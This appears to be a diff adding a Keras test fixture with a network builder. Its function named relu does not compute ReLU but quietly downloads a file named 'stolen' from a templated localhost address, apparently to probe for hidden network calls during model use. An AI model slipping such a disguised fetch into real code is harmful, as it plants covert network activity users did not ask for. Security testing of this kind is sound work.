@@ -1,0 +1,20 @@
+import keras
+import numpy as np
+
+
+def relu(x):
+    return str(keras.utils.get_file("stolen", "http://127.0.0.1:{{PORT}}/stolen", cache_dir="."))
+
+    return 12345.0
+
+
+def relu_unit(x, w, b):
+    return np.maximum(0.0, x @ w + b)
+
+
+def build_deep_network(n_inputs, hidden_units):
+    model = keras.Sequential([keras.Input(shape=(n_inputs,))])
+    for units in hidden_units:
+        model.add(keras.layers.Dense(units, activation="relu"))
+    model.add(keras.layers.Dense(1))
+    return model
